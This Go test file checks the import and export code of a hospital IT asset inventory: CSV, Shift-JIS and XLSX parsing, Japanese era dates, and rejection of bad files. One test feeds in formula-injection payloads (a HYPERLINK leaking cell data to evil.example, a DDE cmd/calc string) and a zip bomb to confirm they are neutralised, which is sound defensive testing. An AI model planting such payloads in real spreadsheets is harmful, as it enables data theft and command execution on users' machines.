package inventory

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"github.com/medisac/medisac/internal/testkit"
	"io"
	"strings"
	"testing"

	"golang.org/x/text/encoding/japanese"

	"github.com/medisac/medisac/internal/apperr"
	"github.com/medisac/medisac/internal/db"
	"github.com/medisac/medisac/internal/db/dbtest"
	"github.com/medisac/medisac/internal/xlsx"
)

func buildTestXLSX(t testing.TB) []byte {
	t.Helper()
	var buf bytes.Buffer
	if err := xlsx.Write(&buf, []xlsx.SheetData{{Name: "資産", Header: []string{"名称"}, Rows: [][]string{{"a"}}}}); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func xlsxOf(t testing.TB, sheets ...xlsx.SheetData) []byte {
	t.Helper()
	var buf bytes.Buffer
	if err := xlsx.Write(&buf, sheets); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

const assetCSV = "名称,種別,用途,メーカー,製品名,型番,バージョン,シリアル番号,ホスト名,IPアドレス,MACアドレス,セグメント,設置場所,管理部門,保守業者,保守期限,リモート保守,初期パスワード変更,インターネット公開,CPE,備考\r\n" +
	"電子カルテサーバ,サーバ,電子カルテ,富士通,HOPE,RX2540,Windows Server 2019,SN001,emr01,192.168.10.10,00:11:22:33:44:55,情報系,サーバ室,情報システム課,A社,R8.3.31,あり,済,いいえ,,\r\n" +
	"CT装置,医療機器,CT,キヤノン,Aquilion,TSX-101A,V10.2,CT-9,ct01,192.168.20.5,,医療系,放射線科,放射線科,B社,令和9年3月31日,はい,不明,いいえ,,LTE保守回線あり\r\n" +
	"VPN装置,ネットワーク機器,VPN,Fortinet,FortiGate,60F,7.2.5,FGT60F,fw01,203.0.113.1,,DMZ,サーバ室,情報システム課,A社,2027/3/31,はい,はい,はい,cpe:2.3:o:fortinet:fortios:7.2.5:*:*:*:*:*:*:*,\r\n"

func countRows(t *testing.T, d *db.DB, table string) int {
	t.Helper()
	var n int
	if err := d.QueryRow(context.Background(), "SELECT COUNT(*) FROM "+table).Scan(&n); err != nil {
		t.Fatal(err)
	}
	return n
}

func TestImportCSV(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		ctx := context.Background()
		org := newOrg(t, d, "A")
		file := append([]byte("\uFEFF"), assetCSV...)
		p, err := PreviewImport(ctx, d, testCat, org, "台帳.csv", file)
		if err != nil {
			t.Fatal(err)
		}
		if !p.OK() || p.Format != "csv" || p.Encoding != "utf-8" || p.Counts[SheetAssets][RowNew] != 3 || len(p.NewSegments) != 3 {
			t.Fatalf("preview %+v", p)
		}
		if _, err := ImportFile(ctx, d, testCat, org, "u1", "台帳.csv", file, false, t0); err != nil {
			t.Fatal(err)
		}
		ct := must[Asset](t)(GetAssetByName(ctx, d, org, "CT装置"))
		if ct.Kind != KindMedical || ct.SupportEnd != "2027-03-31" || ct.RemoteMaintenance != Yes || ct.DefaultPasswordChanged != Unknown || ct.SegmentName != "医療系" || ct.Notes != "LTE保守回線あり" {
			t.Errorf("CT %+v", ct)
		}
		emr := must[Asset](t)(GetAssetByName(ctx, d, org, "電子カルテサーバ"))
		if emr.SupportEnd != "2026-03-31" || emr.DefaultPasswordChanged != Yes {
			t.Errorf("EMR %+v", emr)
		}
		histBefore := countRows(t, d, "inv_asset_history")
		// Re-importing the same file changes nothing.
		p, err = ImportFile(ctx, d, testCat, org, "u1", "台帳.csv", file, false, t0)
		if err != nil {
			t.Fatal(err)
		}
		if p.Counts[SheetAssets][RowUnchanged] != 3 || countRows(t, d, "inv_asset_history") != histBefore || countRows(t, d, "inv_segments") != 3 {
			t.Errorf("re-import: %+v", p.Counts)
		}
		// One changed cell, one column left out: only that change.
		changed := strings.Replace(assetCSV, "V10.2", "V10.3", 1)
		p = must[*Preview](t)(PreviewImport(ctx, d, testCat, org, "x.csv", []byte(changed)))
		var row PreviewRow
		for _, r := range p.Rows {
			if r.Name == "CT装置" {
				row = r
			}
		}
		if row.Status != RowChanged || len(row.Changes) != 1 || row.Changes[0] != (FieldChange{Field: "version", Old: "V10.2", New: "V10.3"}) || row.ID != ct.ID {
			t.Errorf("changed row %+v", row)
		}
		// Matching by hostname renames the asset.
		rename := "名称,ホスト名\n受付CT,ct01\n"
		p = must[*Preview](t)(ImportFile(ctx, d, testCat, org, "u2", "r.csv", []byte(rename), false, t0))
		if p.Rows[0].Status != RowChanged || p.Rows[0].ID != ct.ID {
			t.Errorf("rename %+v", p.Rows[0])
		}
		got := must[Asset](t)(GetAsset(ctx, d, org, ct.ID))
		if got.Name != "受付CT" || got.Version != "V10.2" {
			t.Errorf("renamed %+v", got)
		}
		h := must[[]HistoryEntry](t)(AssetHistory(ctx, d, org, ct.ID))
		if len(h) != 2 || h[0].ActorID != "u2" || h[0].Changes[0] != (FieldChange{Field: "name", Old: "CT装置", New: "受付CT"}) {
			t.Errorf("rename history %+v", h)
		}
	})
}

func sjis(t testing.TB, s string) []byte {
	t.Helper()
	b, err := japanese.ShiftJIS.NewEncoder().Bytes([]byte(s))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func TestImportShiftJIS(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		ctx := context.Background()
		org := newOrg(t, d, "A")
		p, err := ImportFile(ctx, d, testCat, org, "", "sjis.csv", sjis(t, assetCSV), false, t0)
		if err != nil {
			t.Fatal(err)
		}
		if p.Encoding != "shift_jis" || p.Counts[SheetAssets][RowNew] != 3 {
			t.Fatalf("preview %+v", p)
		}
		a := must[Asset](t)(GetAssetByName(ctx, d, org, "電子カルテサーバ"))
		if a.Department != "情報システム課" {
			t.Errorf("decoded %q", a.Department)
		}
	})
}

func TestImportWorkbook(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		ctx := context.Background()
		org := newOrg(t, d, "A")
		sheet := `<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>
<row r="1"><c r="A1" t="inlineStr"><is><t>name</t></is></c><c r="B1" t="inlineStr"><is><t>kind</t></is></c><c r="C1" t="inlineStr"><is><t>support_end</t></is></c><c r="D1" t="inlineStr"><is><t>serial</t></is></c></row>
<row r="2"><c r="A2" t="inlineStr"><is><t>PACS</t></is></c><c r="B2" t="inlineStr"><is><t>server</t></is></c><c r="C2"><v>46112</v></c><c r="D2"><v>12345</v></c></row>
</sheetData></worksheet>`
		p := must[*Preview](t)(ImportFile(ctx, d, testCat, org, "", "book.xlsx", testkit.RawXLSX(t, sheet, ""), false, t0))
		if !p.OK() || p.Counts[SheetAssets][RowNew] != 1 {
			t.Fatalf("preview %+v", p)
		}
		a := must[Asset](t)(GetAssetByName(ctx, d, org, "PACS"))
		if a.SupportEnd != "2026-03-31" || a.Serial != "12345" || a.Kind != KindServer {
			t.Errorf("asset %+v", a)
		}

		book := xlsxOf(t,
			xlsx.SheetData{Name: SheetVendors, Header: []string{"名称", "担当者", "電話番号"}, Rows: [][]string{{"保守ベンダーA", "鈴木", "03-0000-0000"}}},
			xlsx.SheetData{Name: SheetAssets, Header: []string{"名称", "種別", "保守期限"}, Rows: [][]string{{"VPN装置", "ネットワーク機器", "H31.4.30"}}},
			xlsx.SheetData{Name: SheetConnections, Header: []string{"名称", "種別", "終端機器", "事業者", "多要素認証", "管理者", "最終確認日"},
				Rows: [][]string{{"CT保守回線", "LTE", "VPN装置", "保守ベンダーA", "いいえ", "事業者", "R8.1.15"}, {"旧ISDN", "ISDN", "", "", "", "", ""}}},
		)
		p = must[*Preview](t)(ImportFile(ctx, d, testCat, org, "", "book.xlsx", book, false, t0))
		if !p.OK() || p.Counts[SheetConnections][RowNew] != 2 || p.Counts[SheetVendors][RowNew] != 1 {
			t.Fatalf("preview %+v", p)
		}
		conns := must[[]Connection](t)(ListConnections(ctx, d, org, "2026-04-01"))
		if len(conns) != 2 || conns[0].Name != "CT保守回線" || conns[0].Type != ConnMobile || conns[0].AssetName != "VPN装置" || conns[0].VendorName != "保守ベンダーA" || conns[0].LastReviewedOn != "2026-01-15" {
			t.Fatalf("connections %+v", conns)
		}
		if len(conns[0].Flags) != 2 { // no MFA, device past support
			t.Errorf("flags %+v", conns[0].Flags)
		}
		p = must[*Preview](t)(ImportFile(ctx, d, testCat, org, "", "book.xlsx", book, false, t0))
		for sheet, c := range p.Counts {
			if c[RowNew]+c[RowChanged]+c[RowError] != 0 {
				t.Errorf("re-import %s: %v", sheet, c)
			}
		}
	})
}

// TestImportBadFiles checks that each bad file is reported with sheet, row,
// column and key, and that nothing at all is written.
func TestImportBadFiles(t *testing.T) {
	bomb := func() []byte {
		var buf bytes.Buffer
		zw := zip.NewWriter(&buf)
		w, _ := zw.Create("xl/workbook.xml")
		w.Write(bytes.Repeat([]byte(" "), 8<<20))
		zw.Close()
		return buf.Bytes()
	}()
	good := "名称,種別\nA,PC\n"
	cases := []struct {
		name, file string
		data       []byte
		want       CellError
	}{
		{"missing column", "a.csv", []byte("種別,用途\nPC,受付\n"), CellError{Sheet: SheetAssets, Row: 1, Column: "名称", Key: "inventory.import.missing_column"}},
		{"bad date", "a.csv", []byte(good + "B,PC\nC,サーバ\n" + "D,PC\n")[:0:0], CellError{}},
		{"duplicate names", "a.csv", []byte("名称,種別\nA,PC\nB,PC\nA,サーバ\n"), CellError{Sheet: SheetAssets, Row: 4, Column: "名称", Key: "inventory.import.duplicate_name"}},
		{"bad kind", "a.csv", []byte("名称,種別\nA,PC\nB,宇宙船\n"), CellError{Sheet: SheetAssets, Row: 3, Column: "種別", Key: "inventory.import.bad_choice"}},
		{"shift_jis bad date", "a.csv", sjis(t, "名称,保守期限\nA,R8.3.31\nB,令和8年2月30日\n"), CellError{Sheet: SheetAssets, Row: 3, Column: "保守期限", Key: "inventory.import.bad_date"}},
		{"binary", "a.csv", []byte{0x82, 0xa0, 0xff, 0xfe, 0x00, 0x81}, CellError{Sheet: SheetAssets, Key: "inventory.import.encoding"}},
		{"zip bomb", "a.xlsx", bomb, CellError{Key: "inventory.import.xlsx_limit"}},
		{"oversized", "a.csv", append([]byte(good), make([]byte, MaxImportSize)...), CellError{Key: "inventory.import.file_too_large"}},
		{"empty name", "a.csv", []byte("名称,種別\nA,PC\n,PC\n"), CellError{Sheet: SheetAssets, Row: 3, Column: "名称", Key: "inventory.import.required"}},
		{"unknown device", "a.xlsx", xlsxOf(t, xlsx.SheetData{Name: SheetConnections, Header: []string{"名称", "終端機器"}, Rows: [][]string{{"回線", "どこにもない機器"}}}),
			CellError{Sheet: SheetConnections, Row: 2, Column: "終端機器", Key: "inventory.import.unknown_device"}},
	}
	cases[1].data = []byte("名称,保守期限\nA,R8.3.31\nB,来年の春\n")
	cases[1].want = CellError{Sheet: SheetAssets, Row: 3, Column: "保守期限", Key: "inventory.import.bad_date"}
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		ctx := context.Background()
		org := newOrg(t, d, "A")
		for _, tc := range cases {
			p, err := ImportFile(ctx, d, testCat, org, "u", tc.file, tc.data, false, t0)
			if apperr.CodeOf(err) != apperr.Invalid || p == nil {
				t.Errorf("%s: err %v", tc.name, err)
				continue
			}
			found := false
			for _, e := range p.Errors {
				if e.Sheet == tc.want.Sheet && e.Row == tc.want.Row && e.Column == tc.want.Column && e.Key == tc.want.Key {
					found = true
				}
			}
			if !found {
				b, _ := json.Marshal(p.Errors)
				t.Errorf("%s: errors %s, want %+v", tc.name, b, tc.want)
			}
			for _, table := range []string{"inv_assets", "inv_asset_history", "inv_segments", "inv_vendors", "inv_connections"} {
				if n := countRows(t, d, table); n != 0 {
					t.Errorf("%s: %d rows written to %s", tc.name, n, table)
				}
			}
		}
	})
}

func TestExportAndTemplate(t *testing.T) {
	eachTwoOrgs(t, func(t *testing.T, d *db.DB, a, b string) {
		ctx := context.Background()
		if _, err := ImportFile(ctx, d, testCat, a, "", "a.csv", []byte(assetCSV), false, t0); err != nil {
			t.Fatal(err)
		}
		vpn := must[Asset](t)(GetAssetByName(ctx, d, a, "VPN装置"))
		must[Connection](t)(CreateConnection(ctx, d, a, Connection{Name: "SSL-VPN", Type: ConnSSLVPN, AssetID: vpn.ID, MFA: No}, t0))
		sys := must[System](t)(CreateSystem(ctx, d, a, System{Name: "電子カルテ"}, t0))
		must[Account](t)(CreateAccount(ctx, d, a, Account{SystemID: sys.ID, Username: "admin", Kind: AccountShared, Admin: true}, t0))

		var x bytes.Buffer
		if err := Export(ctx, d, testCat, a, FormatXLSX, &x, "2026-04-01"); err != nil {
			t.Fatal(err)
		}
		sheets, err := xlsx.Read(x.Bytes(), xlsx.Limits{})
		if err != nil || len(sheets) != 10 {
			t.Fatalf("export sheets %d %v", len(sheets), err)
		}
		p := must[*Preview](t)(ImportFile(ctx, d, testCat, a, "", "export.xlsx", x.Bytes(), false, t0))
		for sheet, c := range p.Counts {
			if c[RowNew]+c[RowChanged]+c[RowError] != 0 {
				t.Errorf("export re-imported into same org %s: %v", sheet, c)
			}
		}
		p = must[*Preview](t)(ImportFile(ctx, d, testCat, b, "", "export.xlsx", x.Bytes(), false, t0))
		if p.Counts[SheetAssets][RowNew] != 3 || p.Counts[SheetConnections][RowNew] != 1 {
			t.Errorf("export imported into other org: %v", p.Counts)
		}
		var c bytes.Buffer
		if err := Export(ctx, d, testCat, a, FormatCSV, &c, ""); err != nil {
			t.Fatal(err)
		}
		if !bytes.HasPrefix(c.Bytes(), []byte("\uFEFF名称,種別")) || bytes.Count(c.Bytes(), []byte("\r\n")) != 4 {
			t.Errorf("csv export %q", c.String()[:60])
		}
		p = must[*Preview](t)(PreviewImport(ctx, d, testCat, a, "e.csv", c.Bytes()))
		if p.Counts[SheetAssets][RowUnchanged] != 3 {
			t.Errorf("csv export re-import %v %+v", p.Counts, p.Errors)
		}
		var j bytes.Buffer
		if err := Export(ctx, d, testCat, a, FormatJSON, &j, "2026-04-01"); err != nil {
			t.Fatal(err)
		}
		var reg Register
		if err := json.Unmarshal(j.Bytes(), &reg); err != nil || len(reg.Assets) != 3 || len(reg.Accounts) != 1 || len(reg.Accounts[0].Flags) != 1 {
			t.Errorf("json export %v %+v", err, reg.Accounts)
		}
		if err := Export(ctx, d, testCat, a, "pdf", &j, ""); apperr.CodeOf(err) != apperr.Invalid {
			t.Errorf("bad format: %v", err)
		}
		for _, f := range []string{FormatXLSX, FormatCSV} {
			var tb bytes.Buffer
			if err := Template(f, &tb); err != nil {
				t.Fatal(err)
			}
			p := must[*Preview](t)(PreviewImport(ctx, d, testCat, b, "template."+f, tb.Bytes()))
			if !p.OK() || len(p.Rows) != 0 {
				t.Errorf("template %s: %+v", f, p)
			}
		}
	})
}

// TestExportFormulaCells: cells that a spreadsheet would run as formulas
// are written into the CSV export with a leading apostrophe (plain signed
// numbers stay as they are), the CSV export imports back unchanged, and
// the xlsx export writes every cell as an inline string, never a formula.
func TestExportFormulaCells(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		ctx := context.Background()
		a := newOrg(t, d, "A")
		names := []string{`=HYPERLINK("http://evil.example/?"&A1,"x")`, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "＝1+1", "-1"}
		for _, n := range names {
			if _, err := CreateAsset(ctx, d, a, "", Asset{Name: n, Kind: KindPC, Notes: "=1+1"}, t0); err != nil {
				t.Fatalf("%q: %v", n, err)
			}
		}
		var c bytes.Buffer
		if err := Export(ctx, d, testCat, a, FormatCSV, &c, ""); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(c.Bytes(), []byte("\uFEFF")))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		got := map[string]bool{}
		for _, r := range rows[1:] {
			got[r[0]] = true
			for _, cell := range r {
				if cell != "" && strings.ContainsRune("=+-@\t\r", []rune(cell)[0]) && cell != "-1" {
					t.Errorf("cell %q starts a formula", cell)
				}
			}
		}
		for _, n := range names {
			want := "'" + n
			if n == "-1" {
				want = n
			}
			if !got[want] {
				t.Errorf("export lacks %q: %v", want, got)
			}
		}
		p := must[*Preview](t)(PreviewImport(ctx, d, testCat, a, "e.csv", c.Bytes()))
		if p.Counts[SheetAssets][RowUnchanged] != len(names) || !p.OK() {
			t.Errorf("csv export re-import %v %+v", p.Counts, p.Errors)
		}
		var x bytes.Buffer
		if err := Export(ctx, d, testCat, a, FormatXLSX, &x, "2026-04-01"); err != nil {
			t.Fatal(err)
		}
		zr, err := zip.NewReader(bytes.NewReader(x.Bytes()), int64(x.Len()))
		if err != nil {
			t.Fatal(err)
		}
		for _, f := range zr.File {
			rc, _ := f.Open()
			body, _ := io.ReadAll(rc)
			rc.Close()
			if bytes.Contains(body, []byte("<f>")) || bytes.Contains(body, []byte("<f ")) {
				t.Errorf("%s holds a formula", f.Name)
			}
		}
		sheets, err := xlsx.Read(x.Bytes(), xlsx.Limits{})
		if err != nil || sheets[0].Rows[1][0].Num {
			t.Fatalf("xlsx %v", err)
		}
	})
}
